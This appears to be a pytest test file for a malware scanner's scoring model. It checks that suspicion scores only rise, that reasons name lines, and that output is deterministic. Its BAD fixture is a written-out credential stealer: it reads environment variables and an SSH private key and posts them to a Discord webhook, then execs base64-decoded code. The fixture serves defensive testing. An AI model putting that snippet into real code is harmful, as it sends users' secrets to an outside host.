"""The shipped model: it only rises with suspicion, and nothing added ever lowers it."""

import json
import random

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scanner.analyzers.model import ModelAnalyzer, reasons, vectors
from scanner.analyzers.model.reading import read
from scanner.analyzers.model.trees import Model, shipped

BAD = """
import base64, os, requests, subprocess

def collect():
    body = {"env": dict(os.environ), "keys": open(os.path.expanduser("~/.ssh/id_rsa")).read()}
    requests.post("https://discord.com/api/webhooks/1/x", json=body)
    exec(base64.b64decode("cHJpbnQoMSk="))

collect()
"""
GOOD = (
    "import os\n\nDEBUG = os.environ.get('DEBUG')\n",
    "import requests\n\n\ndef weather():\n    return requests.get('https://api.invalid/').json()\n",
    "import subprocess\n\n\ndef build():\n    subprocess.run(['make'], check=True)\n",
    "const express = require('express');\nexpress().listen(process.env.PORT);\n",
    "def add(a, b):\n    return a + b\n",
)
NAMES = [each.name for each in shipped().inputs]
values = st.dictionaries(st.sampled_from(NAMES), st.floats(0, 30, allow_nan=False), max_size=30)


def judged(tree):
    analyzer = ModelAnalyzer()
    assert list(analyzer.analyze(tree)) == []
    return analyzer.details


@given(values, st.sampled_from(shipped().inputs), st.floats(0, 30))
def test_more_suspicion_never_lowers_the_number(vector, changed, more):
    now, before = dict(vector), vector.get(changed.name, 0.0)
    now[changed.name] = before + more

    difference = shipped().probability(now) - shipped().probability(vector)

    assert difference <= 1e-12 if changed.is_less else difference >= -1e-12


@given(st.lists(st.sampled_from(GOOD), max_size=6))
def test_added_files_never_lower_the_number(tmp_path_factory, added):
    tree = tmp_path_factory.mktemp("app")
    (tree / "app.py").write_text(BAD)
    before = judged(tree)["malicious"]
    for number, text in enumerate(added):
        (tree / f"good{number}.{'js' if 'require' in text else 'py'}").write_text(text)

    assert judged(tree)["malicious"] >= before


def test_a_thief_stands_out_from_ordinary_code(tmp_path):
    (tmp_path / "app.py").write_text(BAD)
    bad = judged(tmp_path)
    ordinary = tmp_path / "ordinary"
    ordinary.mkdir()
    for number, text in enumerate(GOOD):
        (ordinary / f"a{number}.{'js' if 'require' in text else 'py'}").write_text(text)

    assert bad["malicious"] >= 0.8
    assert judged(ordinary)["malicious"] < 0.3


def test_reasons_name_behaviours_and_lines(tmp_path):
    (tmp_path / "app.py").write_text(BAD)

    whole, function = judged(tmp_path)["units"][:2]

    assert (whole["path"], whole["name"], function["name"]) == ("app.py", "", "collect")
    told = {reason["behaviour"]: reason for reason in whole["reasons"]}
    assert told
    for reason in told.values():
        assert reason["words"].startswith("It ")
        assert reason["share"] > 0
    with_lines = [reason for reason in told.values() if reason["lines"]]
    assert all(1 <= line <= 9 for reason in with_lines for line in reason["lines"])


def test_files_carry_what_a_later_version_is_compared_by(tmp_path):
    (tmp_path / "app.py").write_text(BAD)

    (file,) = judged(tmp_path)["files"]

    assert file["path"] == "app.py"
    assert len(file["sha256"]) == 64
    assert file["malicious"] == judged(tmp_path)["malicious"]


def test_it_is_deterministic(tmp_path):
    (tmp_path / "app.py").write_text(BAD)

    assert json.dumps(judged(tmp_path)) == json.dumps(judged(tmp_path))


def test_without_a_behaviour_its_pairs_are_gone_too(tmp_path):
    (tmp_path / "app.py").write_text(BAD)
    (file,) = read(tmp_path)

    rest = reasons.without(file.whole.vector, "net_out")

    assert not [name for name in rest if "net_out" in name]
    assert rest["nhits_max"] == file.whole.vector["nhits_max"] - 1


def test_a_model_of_another_format_is_refused():
    with pytest.raises(ValueError, match="format"):
        Model.from_document({"format": 99})


def test_pooled_counts_and_keeps_the_largest():
    chance = random.Random(1)  # noqa: S311
    files = [{"net_out": 1.0, "nhits_max": float(chance.randint(1, 9))} for _ in range(5)]

    assert vectors.pooled(files)["net_out"] == 5
    assert vectors.pooled(files)["nhits_max"] == max(file["nhits_max"] for file in files)
